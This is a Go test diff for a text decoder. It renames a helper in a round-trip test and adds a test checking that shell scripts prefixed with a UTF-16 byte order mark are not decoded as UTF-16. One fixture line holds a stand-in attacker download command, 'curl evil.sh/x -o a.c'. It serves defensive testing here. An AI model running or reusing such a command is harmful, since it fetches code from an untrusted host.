@@ -106,8 +106,23 @@ func TestDecodeRoundTrip(t *testing.T) {
 		}, rapid.String().Draw(t, "text"))
 		order := rapid.SampledFrom([]bytesorder.AppendByteOrder{bytesorder.LittleEndian, bytesorder.BigEndian}).Draw(t, "order")
 		text, how, ok := Decode(encode16("\ufeff"+s, order))
-		if asciiRun(encode16(s, order)) < maxASCIIRun-2 && s != "" && s[0] != 0 && (!ok || string(text) != s || how != fromUTF16) {
+		if readableRun(encode16(s, order)) < maxReadableRun-2 && s != "" && s[0] != 0 && (!ok || string(text) != s || how != fromUTF16) {
 			t.Fatalf("%q became %q, %q, %t", s, text, how, ok)
 		}
 	})
+}
+
+// A script that a byte order mark disguises isn't read as Chinese.
+func TestAScriptIsNoUTF16(t *testing.T) {
+	for _, script := range []string{
+		"\xff\xfe\n#\necho EVIL RAN\nexit\nA\x00",
+		"\xff\xfe\ncurl evil.sh/x -o a.c\n",
+	} {
+		if len(script)%2 != 0 {
+			script += "\n"
+		}
+		if text, how, ok := Decode([]byte(script)); ok && how == fromUTF16 {
+			t.Errorf("%q is read as %q, %s", script, text, how)
+		}
+	}
 }
